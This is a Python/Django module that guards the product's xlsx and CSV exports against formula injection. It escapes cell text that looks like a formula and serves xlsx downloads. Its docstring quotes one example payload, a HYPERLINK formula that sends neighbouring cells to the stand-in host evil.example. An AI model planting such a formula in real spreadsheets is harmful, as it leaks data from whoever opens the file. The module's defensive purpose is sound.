"""Formula-safe cells for every spreadsheet and CSV file the product writes.

Text from users (a dealer's name, a cell of an uploaded file echoed in an error report) must
never reach Excel or WPS as a formula: ``=HYPERLINK("http://evil.example/?d="&A2, "点击查看")``
in a dealer name would otherwise be a live link that sends the neighbouring cells away
(CSV/formula injection, OWASP). Writers go through here and nowhere else:

- xlsx: ``xlsx_cell`` / ``xlsx_set`` store text as text (never a formula) with Excel's quote
  prefix, so the cell shows exactly the text and stays text when someone edits it;
- CSV: ``csv_writer`` prefixes a text that starts like a formula with an apostrophe.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path
from typing import IO, Any

from django.http import FileResponse

# What spreadsheet programs read as the start of a formula (OWASP "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def looks_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_text(value: object) -> object:
    """VALUE for a CSV cell: text that starts like a formula gets a leading apostrophe."""
    return "'" + value if looks_like_formula(value) else value  # type: ignore[operator]


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``csv_text``."""

    def __init__(self, stream: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([csv_text(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], **kwargs: Any) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **kwargs)


def xlsx_set(cell: Any, value: object) -> Any:
    """Put VALUE into an openpyxl cell; text is always text, never a formula. Returns the cell."""
    cell.value = value
    if isinstance(value, str) and (cell.data_type == "f" or looks_like_formula(value)):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_cell(ws: Any, value: object) -> Any:
    """A write-only cell of WS holding VALUE safely (for ``ws.append([...])``)."""
    from openpyxl.cell import WriteOnlyCell

    return xlsx_set(WriteOnlyCell(ws), value)


def xlsx_row(ws: Any, values: Iterable[object]) -> list[Any]:
    """A row of safe write-only cells for ``ws.append``."""
    return [xlsx_cell(ws, v) for v in values]


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_response(path: Path, filename: str) -> FileResponse:
    """The xlsx temp file at PATH as a download named FILENAME. The file is unlinked once open:
    the response streams it and the OS frees it after."""
    handle = open(path, "rb")  # noqa: SIM115 (closed by FileResponse)
    path.unlink()
    return FileResponse(handle, as_attachment=True, filename=filename, content_type=XLSX_TYPE)
